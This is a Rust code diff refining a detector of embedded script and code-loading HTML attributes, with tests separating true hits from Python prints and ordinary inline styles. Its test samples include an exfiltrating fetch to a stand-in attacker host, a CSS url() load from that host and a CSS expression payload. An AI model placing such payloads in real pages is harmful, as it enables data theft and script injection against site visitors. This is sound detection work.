@@ -101,7 +101,8 @@ fn level2(b: &[u8]) -> bool {
 }
 
 /// `print()`, `fetch('//x')`, `Function('...')`, ``document.write`...` ``: one of [`CALLS`]
-/// called directly (a blank before the parenthesis is prose: `print (in colour)`).
+/// called directly (a blank before the parenthesis is prose: `print (in colour)`; `print` with
+/// an argument is Python's).
 fn script_call(b: &[u8]) -> bool {
     CALLS.find_iter(b).any(|m| {
         let (s, e) = (m.start(), m.end());
@@ -110,6 +111,10 @@ fn script_call(b: &[u8]) -> bool {
                 // `function(s)` in prose: the constructor wants its source as a string
                 Some(b'(') if m.end() - m.start() == 8 => {
                     matches!(b.get(e + 1), Some(b'"' | b'\'' | b'`'))
+                }
+                // `window.print()` takes no argument; `print(i * i)` is Python
+                Some(b'(') if b[s..e].eq_ignore_ascii_case(b"print") => {
+                    b[e + 1..].trim_ascii_start().first() == Some(&b')')
                 }
                 Some(b'(') => true,
                 Some(b'`') => tagged_template(b, e),
@@ -197,8 +202,23 @@ fn element_in(name: &[u8], list: &[&str]) -> bool {
     list.iter().any(|e| name.eq_ignore_ascii_case(e.as_bytes()))
 }
 
-/// `href=`, ` src =` among a tag's attributes.
+/// `href=`, ` src =` among a tag's attributes; `style=` only when the tag's attributes load
+/// or run something through CSS (`url(`, `expression(`, `@import`, `behavior`, `-moz-binding`,
+/// a script URL, a CSS escape): editors write `style="text-align: center;"` on every paragraph.
 fn url_attribute(attrs: &[u8]) -> bool {
+    static CSS_LOADS: LazyLock<AhoCorasick> = LazyLock::new(|| {
+        literals(&[
+            "url(",
+            "expression",
+            "@import",
+            "behavior",
+            "binding",
+            "script:",
+            "\\",
+            "&#",
+            "image-set(",
+        ])
+    });
     (0..attrs.len()).any(|i| {
         (i == 0
             || matches!(
@@ -208,6 +228,7 @@ fn url_attribute(attrs: &[u8]) -> bool {
             && URL_ATTRIBUTES.iter().any(|a| {
                 starts_with_ci(attrs, i, a.as_bytes())
                     && attrs[i + a.len()..].trim_ascii_start().first() == Some(&b'=')
+                    && (*a != "style" || CSS_LOADS.is_match(&attrs[i..]))
             })
     })
 }
@@ -373,6 +394,9 @@ mod tests {
             "fetch('//evil.example/?c='+x)",
             "navigator.sendBeacon(u,d)",
             "Function('alert(1)')()",
+            "print( )",
+            "<div style=\"background:url(//evil.example/x)\">",
+            "<p style=\"width: expression(alert(1))\">",
         ] {
             assert_eq!(level(a), Some(2), "{a}");
         }
@@ -424,6 +448,10 @@ mod tests {
             "<?xml version=\"1.0\"?><svg></svg>",
             "<p>Hello <strong>world</strong></p><a href=\"https://example.com\">link</a><img src=\"/img/cat.png\" alt=\"cat\">",
             "<SOAP-ENV:Envelope><SOAP-ENV:Body></SOAP-ENV:Body></SOAP-ENV:Envelope>",
+            "<p style=\"text-align: center;\">Centered text</p>",
+            "<p><span style=\"color: #e03e2d;\">Red warning text</span></p>",
+            "for i in range(10): print(i * i)",
+            "Python: print(f\"Total: {total:.2f}\")",
         ] {
             assert!(!at_level(b.as_bytes(), 2), "false positive: {b}");
         }
